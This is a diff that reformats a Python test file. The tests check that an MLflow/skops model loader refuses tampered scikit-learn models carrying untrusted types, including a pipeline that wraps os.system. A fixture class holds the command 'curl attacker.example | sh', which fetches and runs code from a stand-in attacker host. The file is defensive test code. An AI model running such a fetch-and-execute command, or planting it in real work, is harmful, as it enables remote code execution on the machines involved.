@@ -28,7 +28,8 @@ BUILT: list[Any] = []
 
 
 class Tampered:
-    """A type no model of the project holds; loading it would run its ``__setstate__`` (an attacker's code)."""
+    """A type no model of the project holds; loading it would run its ``__setstate__`` (an attacker's
+    code)."""
 
     def __init__(self) -> None:
         self.command = "curl attacker.example | sh"
@@ -67,8 +68,8 @@ def fitted() -> Pipeline:
 
 
 def model_folder(path: Path, model: Any, trusted: list[str], *, serialization_format: str = "skops") -> Path:
-    """An MLflow model folder as MLflow writes it for scikit-learn: MLmodel (whose trusted list the model's author
-    controls) and the serialized model."""
+    """An MLflow model folder as MLflow writes it for scikit-learn: MLmodel (whose trusted list the model's
+    author controls) and the serialized model."""
     path.mkdir()
     file_name = "model.skops" if serialization_format == "skops" else "model.pkl"
     if serialization_format == "skops":
@@ -76,7 +77,12 @@ def model_folder(path: Path, model: Any, trusted: list[str], *, serialization_fo
     else:
         (path / file_name).write_bytes(pickle.dumps(model))
     mlmodel = Model()
-    mlmodel.add_flavor("sklearn", pickled_model=file_name, serialization_format=serialization_format, skops_trusted_types=trusted)
+    mlmodel.add_flavor(
+        "sklearn",
+        pickled_model=file_name,
+        serialization_format=serialization_format,
+        skops_trusted_types=trusted,
+    )
     mlmodel.save(str(path / "MLmodel"))
     return path
 
@@ -89,18 +95,24 @@ def test_a_model_of_trusted_types_loads_and_predicts_as_saved(fitted, tmp_path):
 
 def test_a_model_carrying_an_untrusted_type_is_refused_whatever_its_own_mlmodel_trusts(fitted, tmp_path):
     tampered = Pipeline([*fitted.steps[:-1], ("payload", Tampered()), fitted.steps[-1]])
-    folder = model_folder(tmp_path / "tampered", tampered, [*SKOPS_TRUSTED_TYPES, TAMPERED_TYPE])  # the file widens its own list
+    folder = model_folder(
+        tmp_path / "tampered", tampered, [*SKOPS_TRUSTED_TYPES, TAMPERED_TYPE]
+    )  # the file widens its own list
     BUILT.clear()
     with pytest.raises(UntrustedTypesFoundException, match=TAMPERED_TYPE):
         load_skops_model(folder, "tampered")
     assert BUILT == []  # refused before the object was built
-    assert skops.io.load(folder / "model.skops", trusted=[*SKOPS_TRUSTED_TYPES, TAMPERED_TYPE]) is not None  # loading it builds it...
+    assert (
+        skops.io.load(folder / "model.skops", trusted=[*SKOPS_TRUSTED_TYPES, TAMPERED_TYPE]) is not None
+    )  # loading it builds it...
     assert len(BUILT) == 1  # ...so the refusal above is what kept the payload from running
 
 
 def test_a_model_calling_a_system_function_is_refused(fitted, tmp_path):
     tampered = Pipeline([("payload", FunctionTransformer(os.system)), *fitted.steps])
-    folder = model_folder(tmp_path / "system", tampered, [*SKOPS_TRUSTED_TYPES, f"{os.system.__module__}.system"])
+    folder = model_folder(
+        tmp_path / "system", tampered, [*SKOPS_TRUSTED_TYPES, f"{os.system.__module__}.system"]
+    )
     with pytest.raises(UntrustedTypesFoundException, match=r"\.system"):
         load_skops_model(folder, "system")
 
